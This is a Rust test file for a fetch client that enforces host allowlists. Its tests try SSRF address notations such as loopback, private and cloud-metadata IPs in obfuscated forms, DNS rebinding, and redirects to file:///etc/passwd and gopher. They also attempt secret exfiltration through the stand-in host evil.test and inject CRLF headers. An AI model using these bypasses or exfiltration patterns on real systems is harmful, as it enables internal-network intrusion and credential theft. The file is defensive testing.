//! Requests go to the hosts and addresses that the operator opened, and nowhere else.

use std::process::Command;
use std::sync::Arc;
use std::time::Duration;

use mynah_core::{Fetch, FetchBody, FetchFailure, FetchRequest, FetchText};
use mynah_fetch::{FetchClient, FetchSettings, SecretText, Target};

use crate::server::{Received, Server, answer, ok, redirect};
use crate::{Names, client_for, get, hosts, secret, text, within};

/// The own machine and its network as hosts of addresses.
const NOTATIONS: &[&str] = &[
    "127.0.0.1",
    "127.0.0.1.",
    "127.1",
    "127.0.1",
    "2130706433",
    "0x7f000001",
    "0x7f.1",
    "0177.1",
    "017700000001",
    "0",
    "0.0.0.0",
    "0x0",
    "[::]",
    "[::1]",
    "[0:0:0:0:0:0:0:1]",
    "[::127.0.0.1]",
    "[::ffff:127.0.0.1]",
    "[::ffff:7f00:1]",
    "[64:ff9b::127.0.0.1]",
    "[64:ff9b:1::7f00:1]",
    "[2002:7f00:1::]",
    "１２７.0.0.1",
    "127。0。0。1",
    "10.0.0.1",
    "172.16.1.1",
    "192.168.1.1",
    "169.254.169.254",
    "0xa9fea9fe",
    "[fd00:ec2::254]",
    "[fe80::1]",
    "100.100.100.200",
    "[2001:0:4136:e378:8000:63bf:3fff:fdd2]",
    "224.0.0.1",
    "255.255.255.255",
];

async fn fetched(client: &FetchClient, url: &str) -> Result<String, FetchFailure> {
    within(client.fetcher().fetch(&get(url))).await.map(|answer| answer.body)
}

/// Starts a server that counts connections, for those that should not be made.
async fn trap() -> Server {
    Server::always(ok("secret of the own network")).await
}

/// A client whose operator opened all of these hosts to rules, and listed the server as private.
fn opened_to_all(server: &Server, urls: &[String]) -> FetchClient {
    let targets = urls.iter().map(|url| url.parse().unwrap());
    FetchClient::new(FetchSettings {
        hosts: targets.map(|target: Target| target.to_string().parse().unwrap()).collect(),
        private: hosts(&[&server.address.to_string()]),
        ..FetchSettings::default()
    })
}

#[tokio::test]
async fn an_address_that_is_not_public_is_refused_in_every_notation() {
    let (trap, server) = (trap().await, trap().await);
    let urls: Vec<String> =
        NOTATIONS.iter().map(|host| format!("http://{}/", trap.host(host))).collect();
    let (opened, closed) = (opened_to_all(&server, &urls), client_for(&server));
    for url in &urls {
        let refused = fetched(&opened, url).await;
        assert!(matches!(refused, Err(FetchFailure::AddressRefused { .. })), "{url} {refused:?}");
        let refused = fetched(&closed, url).await;
        assert!(
            matches!(
                refused,
                Err(FetchFailure::HostNotAllowed(_) | FetchFailure::PrivateNotAllowed(_))
            ),
            "{url} {refused:?}"
        );
    }
    assert_eq!(trap.connections(), 0);
}

#[tokio::test]
async fn a_redirect_to_an_address_that_is_not_public_is_refused_in_every_notation() {
    let trap = trap().await;
    let urls: Vec<String> =
        NOTATIONS.iter().map(|host| format!("http://{}/", trap.host(host))).collect();
    let to = urls.clone();
    let server = Server::start(move |request: &Received| {
        let n: usize = request.path()[1..].parse().unwrap();
        redirect(302, &to[n])
    })
    .await;
    let (opened, closed) = (opened_to_all(&server, &urls), client_for(&server));
    for (n, to) in urls.iter().enumerate() {
        let url = server.url(&format!("/{n}"));
        let refused = fetched(&opened, &url).await;
        assert!(matches!(refused, Err(FetchFailure::AddressRefused { .. })), "{to} {refused:?}");
        let refused = fetched(&closed, &url).await;
        assert!(
            matches!(
                refused,
                Err(FetchFailure::HostNotAllowed(_) | FetchFailure::PrivateNotAllowed(_))
            ),
            "{to} {refused:?}"
        );
    }
    assert_eq!(trap.connections(), 0);
}

#[tokio::test]
async fn a_name_is_judged_by_its_addresses() {
    let trap = trap().await;
    for answer in [
        "127.0.0.1",
        "8.8.8.8 127.0.0.1",
        "127.0.0.1 8.8.8.8",
        "::1",
        "::ffff:127.0.0.1",
        "64:ff9b::7f00:1",
        "10.0.0.1",
        "0.0.0.0",
    ] {
        let names = Names::new(&[("evil.test", &[answer])]);
        let hosts = hosts(&[&trap.host("evil.test")]);
        let settings = FetchSettings { hosts, ..FetchSettings::default() };
        let client = FetchClient::with_resolver(settings, names);
        let refused = fetched(&client, &format!("http://{}/", trap.host("evil.test"))).await;
        let Err(FetchFailure::AddressRefused { host, address }) = refused else {
            panic!("{answer}: {refused:?}")
        };
        assert_eq!(host, trap.host("evil.test"));
        assert!(answer.contains(&address.to_string()));
    }
    let settings =
        FetchSettings { hosts: hosts(&[&trap.host("localhost")]), ..FetchSettings::default() };
    let refused =
        fetched(&FetchClient::new(settings), &format!("http://{}/", trap.host("localhost"))).await;
    assert!(matches!(refused, Err(FetchFailure::AddressRefused { .. })), "{refused:?}");
    assert_eq!(trap.connections(), 0);
}

/// The connection goes to the address of the very answer that was checked: there is no second question.
#[cfg(not(target_os = "macos"))] // It has only 127.0.0.1 of its loopback addresses.
#[tokio::test]
async fn a_name_that_changes_its_address_is_asked_once_for_a_connection() {
    let server = Server::always(ok("first")).await;
    let address = format!("127.0.0.2:{}", server.address.port());
    let other = Server::start_at(&address, |_| ok("second")).await;
    let host = server.host("rebind.test");
    let url = format!("http://{host}/");
    let names = Names::new(&[("rebind.test", &["127.0.0.1", "127.0.0.2"])]);
    let settings = FetchSettings { private: hosts(&[&host]), ..FetchSettings::default() };
    let client = FetchClient::with_resolver(settings, Arc::clone(&names) as _);
    assert_eq!(fetched(&client, &url).await.unwrap(), "first");
    assert_eq!((names.asked().len(), other.connections()), (1, 0));
    // The next connection is checked anew.
    assert_eq!(fetched(&client, &url).await.unwrap(), "second");
    assert_eq!((names.asked().len(), server.connections(), other.connections()), (2, 1, 1));

    // Without the exception, each answer is judged.
    let names = Names::new(&[("rebind.test", &["127.0.0.1", "127.0.0.2", "10.0.0.1"])]);
    let settings = FetchSettings { hosts: hosts(&[&host]), ..FetchSettings::default() };
    let client = FetchClient::with_resolver(settings, Arc::clone(&names) as _);
    for expected in ["127.0.0.1", "127.0.0.2", "10.0.0.1"] {
        let address = expected.parse().unwrap();
        let refused = FetchFailure::AddressRefused { host: host.clone(), address };
        assert_eq!(fetched(&client, &url).await, Err(refused));
    }
    assert_eq!((names.asked().len(), server.connections(), other.connections()), (3, 1, 1));
}

#[tokio::test]
async fn an_exception_counts_for_its_host_and_port_only() {
    let server = Server::always(ok("x")).await;
    let trap = trap().await;
    let name = server.host("box.test");
    let names = Names::new(&[("box.test", &["127.0.0.1"]), ("other.test", &["127.0.0.1"])]);
    let client = FetchClient::with_resolver(
        FetchSettings {
            hosts: hosts(&[&server.host("other.test"), &trap.host("127.0.0.1")]),
            private: hosts(&[&name]),
            ..FetchSettings::default()
        },
        names,
    );
    assert_eq!(fetched(&client, &format!("http://{name}/")).await.unwrap(), "x");
    for url in [
        format!("http://{}/", server.host("other.test")),
        trap.url("/"),
        server.url("/"),
        format!("http://{}/", trap.host("box.test")),
        format!("https://{}/", server.host("other.test")),
    ] {
        let failed = fetched(&client, &url).await.unwrap_err();
        let is_refused = matches!(
            failed,
            FetchFailure::AddressRefused { .. }
                | FetchFailure::HostNotAllowed(_)
                | FetchFailure::PrivateNotAllowed(_)
        );
        assert!(is_refused, "{url} {failed}");
    }
    assert_eq!((server.connections(), trap.connections()), (1, 0));
}

#[tokio::test]
async fn redirects_lead_to_opened_hosts_only_and_end() {
    let trap = trap().await;
    let elsewhere = trap.url("/");
    let server = Server::start(move |request: &Received| match request.path() {
        "/loop" => redirect(302, "/loop"),
        "/4" => redirect(301, "/3"),
        "/3" => redirect(307, "/2"),
        "/2" => redirect(308, "/1"),
        "/1" => redirect(303, "./ok"),
        "/ok" => ok("ok"),
        "/3-ok" => redirect(302, "/2-ok"),
        "/2-ok" => redirect(302, "/1-ok"),
        "/1-ok" => redirect(302, "/ok"),
        "/elsewhere" => redirect(302, &elsewhere),
        "/user" => redirect(302, &elsewhere.replace("://", "://me@")),
        "/file" => redirect(302, "file:///etc/passwd"),
        "/gopher" => redirect(302, "gopher://127.0.0.1:1/x"),
        "/bad" => redirect(302, "http://[/"),
        "/binary" => answer(302, "location: \u{e9}\u{ff}://x\r\n", ""),
        "/nowhere" => answer(302, "", ""),
        _ => answer(404, "", ""),
    })
    .await;
    let client = client_for(&server);
    for (path, expected) in [
        ("/3-ok", "ok"),
        ("/4", "more than 3 redirects"),
        ("/loop", "more than 3 redirects"),
        ("/elsewhere", "not in [fetch] private"),
        ("/user", "user name"),
        ("/file", "http://"),
        ("/gopher", "http://"),
        ("/bad", "not valid"),
        ("/nowhere", "status 302"),
    ] {
        let shown = fetched(&client, &server.url(path)).await.unwrap_or_else(|it| it.to_string());
        assert!(shown.contains(expected), "{path}: {shown}");
    }
    assert!(fetched(&client, &server.url("/binary")).await.is_err());
    assert_eq!(trap.connections(), 0);
}

#[tokio::test]
async fn redirects_change_the_method_as_in_browsers() {
    for (status, method, expected) in [
        (301, "POST", "GET"),
        (302, "POST", "GET"),
        (303, "POST", "GET"),
        (307, "POST", "POST"),
        (308, "POST", "POST"),
        (301, "PUT", "PUT"),
        (303, "PUT", "GET"),
        (302, "GET", "GET"),
        (303, "DELETE", "GET"),
    ] {
        let server = Server::start(move |request: &Received| match request.path() {
            "/" => redirect(status, "/next"),
            _ => ok("x"),
        })
        .await;
        let request = FetchRequest {
            method: method.to_owned(),
            body: Some(FetchBody::Text(FetchText::plain("words"))),
            headers: vec![("content-type".to_owned(), FetchText::plain("text/plain"))],
            idempotency_key: Some("m1".to_owned()),
            ..get(server.url("/"))
        };
        within(client_for(&server).fetcher().fetch(&request)).await.unwrap();
        let received = server.received();
        assert_eq!(received[0].header("idempotency-key"), Some("m1"));
        let next = &received[1];
        assert!(next.line.starts_with(&format!("{expected} /next ")), "{status}: {}", next.line);
        let keeps = expected != "GET" || method == "GET";
        assert_eq!(next.body == "words", keeps, "{status} {method}");
        assert_eq!(next.header("content-type").is_some(), keeps, "{status} {method}");
        assert_eq!(next.header("idempotency-key").is_some(), keeps, "{status} {method}");
    }
}

/// A client with a secret for one server, which may also talk to another one.
fn with_secret(own: &Server, other: &Server) -> FetchClient {
    FetchClient::new(FetchSettings {
        private: hosts(&[&own.address.to_string(), &other.address.to_string()]),
        secrets: [secret("KEY", &own.address.to_string(), "s3cret")].into(),
        ..FetchSettings::default()
    })
}

#[tokio::test]
async fn a_secret_does_not_follow_a_redirect_to_another_host() {
    let other = Server::always(ok("x")).await;
    let to = other.url("/");
    let own = Server::start(move |request: &Received| match request.path() {
        "/" => redirect(307, &to),
        "/own" => redirect(307, "/end"),
        _ => ok("x"),
    })
    .await;
    let client = with_secret(&own, &other);
    let headers = vec![
        ("x-key".to_owned(), text("${KEY}")),
        ("authorization".to_owned(), FetchText::plain("Bearer written-in-the-rule")),
        ("cookie".to_owned(), FetchText::plain("a=b")),
        ("x-plain".to_owned(), FetchText::plain("y")),
    ];
    for path in ["/own", "/"] {
        let request = FetchRequest { headers: headers.clone(), ..get(own.url(path)) };
        within(client.fetcher().fetch(&request)).await.unwrap();
    }
    let received = own.received();
    assert_eq!(received.len(), 3);
    for request in received {
        assert_eq!(request.header("x-key"), Some("s3cret"));
        assert!(request.header("authorization").is_some() && request.header("cookie").is_some());
    }
    let received = other.received();
    assert!(!received[0].head.contains("s3cret"), "{}", received[0].head);
    assert_eq!(received[0].header("authorization"), None);
    assert_eq!(received[0].header("cookie"), None);
    assert_eq!(received[0].header("x-plain"), Some("y"));

    let body = Some(FetchBody::Text(text("key=${KEY}")));
    let request = FetchRequest { method: "POST".to_owned(), body, ..get(own.url("/")) };
    let refused = within(client.fetcher().fetch(&request)).await;
    assert!(matches!(refused, Err(FetchFailure::SecretRefused { .. })), "{refused:?}");
    assert_eq!(other.connections(), 1);
}

#[tokio::test]
async fn a_rule_that_steals_gets_nothing_out() {
    let own = Server::always(ok("x")).await;
    let other = Server::always(ok("x")).await;
    let client = with_secret(&own, &other);
    for url in [
        other.url("/?k=${KEY}"),
        own.url("/?k=${PATH}"),
        own.url("/?k=${HOME}"),
        format!("http://{}@{}/", "${KEY}", other.address),
        format!("http://{}.evil.test/", "${KEY}"),
    ] {
        let request = FetchRequest { url: text(&url), ..get("") };
        let refused = within(client.fetcher().fetch(&request)).await.unwrap_err();
        assert!(!refused.to_string().contains("s3cret"), "{refused}");
    }
    for (name, value) in [("x-key", "${KEY}"), ("x", "a\r\nx-key: y"), ("host", "evil.test")] {
        let headers = vec![(name.to_owned(), text(value))];
        let request = FetchRequest { headers, ..get(other.url("/")) };
        within(client.fetcher().fetch(&request)).await.unwrap_err();
    }
    assert_eq!((own.connections(), other.connections()), (0, 0));
    // Written by a member, it is text.
    let request = get(own.url("/?k=${KEY}"));
    within(client.fetcher().fetch(&request)).await.unwrap();
    assert!(!own.received()[0].head.contains("s3cret"));
}

#[tokio::test]
async fn no_failure_shows_a_query_or_a_secret() {
    let own = Server::start(|request: &Received| match request.path() {
        path if path.starts_with("/away") => redirect(302, "http://evil.test/?k=s3cret"),
        path if path.starts_with("/bad") => redirect(302, "http://[/?k=s3cret"),
        path if path.starts_with("/status") => answer(500, "", "s3cret"),
        _ => vec![],
    })
    .await;
    let closed = Server::always(vec![]).await;
    let client = with_secret(&own, &closed);
    for path in ["/away", "/bad", "/status", "/closed"] {
        let url = text(&own.url(&format!("{path}?k=${{KEY}}&private=words")));
        let failed = within(client.fetcher().fetch(&FetchRequest { url, ..get("") })).await;
        let shown = format!("{0} {0:?}", failed.unwrap_err());
        assert!(!shown.contains("s3cret") && !shown.contains("words"), "{shown}");
    }
    for url in ["http://nowhere.test/?k=words", "http://[words/", "x:words", "words"] {
        let shown = fetched(&client, url).await.unwrap_err().to_string();
        assert!(!shown.contains("words"), "{shown}");
    }
}

#[tokio::test]
async fn no_cookies_are_kept() {
    let server = Server::always(answer(200, "set-cookie: a=b\r\n", "")).await;
    let client = client_for(&server);
    fetched(&client, &server.url("/")).await.unwrap();
    fetched(&client, &server.url("/")).await.unwrap();
    assert!(server.received().iter().all(|request| request.header("cookie").is_none()));
}

/// The names of all variables by which programs find a proxy.
const PROXIES: [&str; 6] =
    ["HTTP_PROXY", "http_proxy", "HTTPS_PROXY", "https_proxy", "ALL_PROXY", "all_proxy"];

#[tokio::test]
async fn proxies_of_the_environment_are_not_used() {
    let server = Server::always(ok("direct")).await;
    let proxy = trap().await;
    let mut child = Command::new(std::env::current_exe().unwrap());
    child.args(["--exact", "boundaries::a_child_with_proxies", "--ignored"]);
    child.env("MYNAH_TEST_URL", server.url("/"));
    for name in PROXIES {
        child.env(name, proxy.url("/"));
    }
    let output = tokio::task::spawn_blocking(move || child.output().unwrap());
    let output = within(output).await.unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stdout));
    assert_eq!((server.connections(), proxy.connections()), (1, 0));
}

#[tokio::test]
#[ignore = "only with the environment of proxies_of_the_environment_are_not_used"]
async fn a_child_with_proxies() {
    let url = std::env::var("MYNAH_TEST_URL").unwrap();
    let target: Target = url.parse().unwrap();
    let private = hosts(&[&target.to_string()]);
    let hosts = hosts(&["evil.test"]);
    let settings = FetchSettings { private, hosts, ..FetchSettings::default() };
    let client = FetchClient::with_resolver(settings, Names::new(&[]));
    assert_eq!(fetched(&client, &url).await.unwrap(), "direct");
    // This would go through a proxy that may go anywhere.
    fetched(&client, "http://evil.test/").await.unwrap_err();
    fetched(&client, "https://evil.test/").await.unwrap_err();
}

#[tokio::test]
async fn the_proxy_of_the_settings_serves_public_hosts_only() {
    let proxy = Server::start(|request: &Received| ok(format!("proxied {}", request.path()))).await;
    let server = Server::always(ok("direct")).await;
    let names = Names::new(&[("inside.test", &["10.0.0.1"]), ("proxy.test", &["127.0.0.1"])]);
    let settings = FetchSettings {
        hosts: hosts(&["outside.test", "inside.test", "10.0.0.1"]),
        private: hosts(&[&server.address.to_string()]),
        proxy: Some(SecretText::new(format!("http://{}", proxy.host("proxy.test")))),
        ..FetchSettings::default()
    };
    let client = FetchClient::with_resolver(settings, names);
    let proxied = fetched(&client, "http://outside.test/x").await.unwrap();
    assert_eq!(proxied, "proxied http://outside.test/x");
    assert_eq!(fetched(&client, &server.url("/")).await.unwrap(), "direct");
    for url in ["http://inside.test/", "https://inside.test/", "http://10.0.0.1/", "http://012.1/"]
    {
        let refused = fetched(&client, url).await.unwrap_err();
        assert!(matches!(refused, FetchFailure::AddressRefused { .. }), "{url} {refused}");
    }
    assert_eq!(proxy.connections(), 1);
}

#[tokio::test]
async fn a_server_that_is_not_there_is_a_failure() {
    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
    let private = hosts(&[&closed.to_string(), "nowhere.test:80"]);
    let settings = FetchSettings { private, ..FetchSettings::default() };
    let client = FetchClient::with_resolver(settings, Names::new(&[]));
    for url in [format!("http://{closed}/"), "http://nowhere.test/".to_owned()] {
        let request = FetchRequest { timeout: Duration::from_secs(10), ..get(url) };
        let failed = within(client.fetcher().fetch(&request)).await;
        assert!(matches!(failed, Err(FetchFailure::Connection(_))), "{failed:?}");
    }
}
